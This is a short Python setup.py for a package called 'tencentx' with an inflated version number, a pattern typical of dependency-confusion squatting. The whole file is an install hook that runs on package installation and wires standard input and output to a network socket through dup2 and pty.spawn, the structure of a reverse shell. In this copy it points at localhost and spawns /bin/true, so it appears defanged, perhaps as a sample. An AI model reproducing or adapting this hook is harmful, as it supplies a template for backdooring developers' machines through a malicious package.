import os, pty, socket
from setuptools import setup
from setuptools.command.install import install
class CustomInstall(install):
    def run(self):
        install.run(self)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.connect(("127.0.0.1", 9))
        except OSError:
            return
        os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
        pty.spawn("/bin/true")
setup(name="tencentx", version="999.0.4", cmdclass={"install": CustomInstall})
